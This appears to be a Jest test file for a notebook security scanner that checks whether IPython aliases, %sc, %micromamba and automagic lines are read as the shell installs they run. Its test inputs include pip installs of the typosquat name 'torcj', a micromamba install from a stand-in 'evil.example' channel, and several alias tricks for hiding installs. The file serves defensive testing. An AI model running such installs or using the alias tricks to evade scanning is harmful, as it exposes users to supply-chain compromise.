/**
 * Red team 13 R13-17: IPython shell aliases in notebook cells. `%alias NAME CMD` makes
 * `%NAME ARGS` (and automagic `NAME ARGS`) run CMD through the shell with IPython's
 * substitution (IPython/core/alias.py); the static reader follows the definitions through the
 * notebook in cell order and decides each use as the shell line IPython runs.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { maskIPython } from '../analyzer/ipython';
import { IPythonAliases } from '../analyzer/ipythonaliases';
import { scanCellInstalls } from './scan';

let dir: string;

beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'warden-aliases-'));
});

afterEach(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

/** The install rules of each cell of a notebook, cells read in order with one table. */
function notebookRules(cells: string[]): string[][] {
  const aliases = new IPythonAliases();
  return cells.map(cell =>
    scanCellInstalls(path.join(dir, 'nb.ipynb'), cell, {}, aliases)
      .map(f => f.finding.ruleId)
      .sort()
  );
}

/** The shell lines (or unreadable uses) the reader takes out of cells read in order. */
function shellLines(cells: string[]): string[] {
  const aliases = new IPythonAliases();
  return cells.flatMap(cell =>
    maskIPython(cell, aliases).shell.map(s =>
      s.kind === 'shell' ? s.text : `${s.kind}: ${s.text}`
    )
  );
}

describe('R13-17: IPython aliases are read as the shell lines they run', () => {
  it('reports an alias use as !pip install is reported (control: the ! line)', () => {
    expect(notebookRules(['!pip install torcj'])).toEqual([
      ['install-imitation-name']
    ]);
    expect(notebookRules(['%alias inst pip install %s\n%inst torcj'])).toEqual([
      ['install-imitation-name']
    ]);
    expect(
      notebookRules(['%alias inst pip install %s', '%inst torcj'])
    ).toEqual([[], ['install-imitation-name']]);
    expect(
      notebookRules(['%alias inst2 pip install torcj', 'inst2', 'x = %inst2'])
    ).toEqual([[], ['install-imitation-name'], ['install-imitation-name']]);
    expect(
      notebookRules(['%alias inst3 pip install %l --quiet', 'inst3 torcj'])
    ).toEqual([[], ['install-imitation-name']]);
  });

  it('substitutes as IPython does: %s in order, %l whole line, %% escapes, extra words appended', () => {
    expect(
      shellLines([
        '%alias two echo first %s second %s',
        '%two A B C D',
        '%alias line echo <%l>',
        'line hello  world',
        '%alias esc echo %%s %s',
        '%esc k',
        '%alias plain echo %%s',
        'plain m'
      ])
    ).toEqual([
      'echo first A second B C D',
      'echo <hello  world> ',
      'echo %s k ',
      'echo %s m'
    ]);
  });

  it('runs nothing where IPython raises before the shell (too few arguments, other % formats, %s with %l)', () => {
    expect(
      shellLines([
        '%alias two pip install %s %s',
        '%two torcj',
        '%alias fmt pip install %d %s',
        '%fmt 1 torcj',
        '%alias both pip install %s %l',
        '%both torcj'
      ])
    ).toEqual([]);
  });

  it('keeps the magics: an alias cannot take a magic name, %unalias removes one', () => {
    expect(shellLines(['%alias pip echo hi', '%pip install torcj'])).toEqual([
      'pip install torcj'
    ]);
    expect(
      notebookRules([
        '%alias inst pip install %s',
        '%unalias inst',
        '%inst torcj'
      ])
    ).toEqual([[], [], []]);
    expect(
      notebookRules([
        '%alias inst pip install %s',
        '%alias inst echo %s',
        '%inst torcj'
      ])
    ).toEqual([[], [], []]);
  });

  it("reads IPython's default aliases: %ls; pip install runs pip", () => {
    expect(notebookRules(['%ls ; pip install torcj'])).toEqual([
      ['install-imitation-name']
    ]);
    expect(notebookRules(['ls | pip install torcj'])).toEqual([
      ['install-imitation-name']
    ]);
    expect(shellLines(['%lf *.py'])).toEqual([
      'ls -F -o --color *.py | grep ^- '
    ]);
  });

  it('reads literal define_alias calls; code Warden cannot read makes unknown uses unreadable', () => {
    expect(
      notebookRules([
        "get_ipython().alias_manager.define_alias('inst', 'pip install %s')",
        '%inst torcj'
      ])
    ).toEqual([[], ['install-imitation-name']]);
    expect(
      notebookRules([
        "cmd = 'pip ' + 'install %s'\nget_ipython().alias_manager.define_alias('inst', cmd)",
        '%inst torcj',
        'inst torcj'
      ])
    ).toEqual([[], ['install-unreadable'], ['install-unreadable']]);
    expect(
      notebookRules([
        "get_ipython().run_line_magic('alias', 'inst pip install %s')",
        '%inst torcj'
      ])
    ).toEqual([[], ['install-imitation-name']]);
  });

  it('after %rehashx any program is an alias of itself (dots dropped from its name)', () => {
    expect(notebookRules(['%rehashx', 'pip3 install torcj'])).toEqual([
      [],
      ['install-imitation-name']
    ]);
    expect(notebookRules(['%rehashx', '%pip312 install torcj'])).toEqual([
      [],
      ['install-imitation-name']
    ]);
    expect(notebookRules(['%rehashx', '%pip3 install torcj'])).toEqual([
      [],
      ['install-imitation-name']
    ]);
  });

  it('does not refuse ordinary cells', () => {
    expect(
      notebookRules([
        '%alias inst pip install %s',
        '%inst numpy',
        'import numpy as np\ndf = np.zeros(3)\ndf',
        'ls -l',
        '%matplotlib inline',
        "get_ipython().run_line_magic('matplotlib', 'inline')",
        '%rehashx',
        'df\nprint(df)\nf(x)\npip_helper(3)',
        '%load_ext autoreload'
      ])
    ).toEqual([[], [], [], [], [], [], [], [], []]);
  });
});

describe('R13-17: alias names on Python lines', () => {
  it('keeps calls, attributes and assignments of an alias name as Python', () => {
    const cells = [
      '%alias inst pip install torcj',
      'inst = 3\ninst, b = 1, 2\ninst(3)\ninst.x\ninst == 3',
      'inst ; echo'
    ];
    expect(shellLines(cells)).toEqual(['pip install torcj ; echo']);
  });
});

describe('other line magics that run a shell', () => {
  it('reads %sc var=command, %micromamba and automagic uv as the shell lines they run', () => {
    expect(notebookRules(['%sc -l x=pip install torcj'])).toEqual([
      ['install-imitation-name']
    ]);
    expect(notebookRules(['%sc y = pip install torcj'])).toEqual([
      ['install-imitation-name']
    ]);
    expect(notebookRules(['uv pip install torcj'])).toEqual([
      ['install-imitation-name']
    ]);
    const channel = 'install -c https://evil.example/ch numpy';
    expect(
      notebookRules([`%micromamba ${channel}`, `micromamba ${channel}`])
    ).toEqual([['install-index-not-allowed'], ['install-index-not-allowed']]);
    expect(notebookRules(['%sc x=ls', 'uv = 3\nuv.x', '%sc'])).toEqual([
      [],
      [],
      []
    ]);
  });
});
